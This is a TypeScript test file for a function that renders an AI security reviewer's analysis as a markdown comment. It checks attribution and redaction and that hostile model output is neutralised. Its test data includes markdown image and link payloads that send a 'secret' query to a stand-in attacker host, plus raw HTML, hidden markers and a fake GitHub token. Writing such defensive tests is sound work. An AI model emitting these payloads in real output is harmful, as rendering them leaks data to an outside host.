import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Analysis } from '../../../../roles/general/engine.ts';
import { commentOf } from '../../../../roles/general/result-comment.ts';
import { redacting } from '../../../../roles/policy/redact.ts';
import { ANSWER } from '../../../fakes/scripted-model.ts';

const BY = { general: 'security-general', cluster: 'prod-us' };
const NO_USAGE = { promptTokens: 0, completionTokens: 0, costUsd: 0 };
const ANALYSIS: Analysis = { answer: ANSWER, engine: 'model', model: 'gpt', usage: NO_USAGE };

function answering(fields: Partial<Analysis['answer']>): string {
  return commentOf({ ...ANALYSIS, answer: { ...ANSWER, ...fields } }, BY);
}

test('general / comment / tells the summary, what was found, what to do, and who says it', () => {
  assert.equal(
    commentOf(ANALYSIS, BY),
    [
      '### Security',
      'It was read.',
      '- **low** A small thing (`src/page.ts`): Here.',
      '- [ ] Go on.',
      '<sub>`security-general` in `prod-us`, by model `gpt`</sub>',
    ].join('\n\n'),
  );
});

test('general / comment / rules never pass for a model', () => {
  const text = commentOf({ ...ANALYSIS, engine: 'offline-rules', degraded: 'no model is configured' }, BY);
  assert.match(text, /by offline-rules: no model is configured<\/sub>$/);
});

const HOSTILE: { id: string; summary: string; never: RegExp }[] = [
  { id: 'a mention', summary: 'ask @octocat', never: /@octocat/ },
  { id: 'a link to an issue', summary: 'see #7', never: /#7/ },
  { id: 'HTML', summary: '<details open><img src=x>', never: /<(details|img)/ },
  { id: 'an image', summary: '![x](https://evil.example/?q=secret)', never: /!\[|\]\(/ },
  { id: 'an image by reference', summary: '![x][y]\n\n[y]: https://evil.example/?q=secret', never: /!\[|\]\[|\]:/ },
  { id: 'a link', summary: '[click](https://evil.example)', never: /\]\(/ },
  { id: 'a marker', summary: '<!-- mindmesh:hops=0 key=mm-00000000000000000000 -->', never: /<!--/ },
  { id: 'a secret', summary: `token ghp_${'a'.repeat(36)}`, never: /ghp_/ },
];

for (const { id, summary, never } of HOSTILE) {
  test(`general / comment / ${id} in an answer is nothing but text`, () => {
    assert.doesNotMatch(answering({ summary }), never);
    assert.doesNotMatch(answering({ recommendations: [summary] }), never);
  });
}

test('general / comment / a secret of the node is in no answer', () => {
  const own = 'correct-horse-battery';
  const analysis = {
    ...ANALYSIS,
    answer: { ...ANSWER, summary: own, findings: [{ ...ANSWER.findings[0], where: own } as never] },
  };
  assert.ok(!commentOf(analysis, { ...BY, redact: redacting([own]) }).includes(own));
});
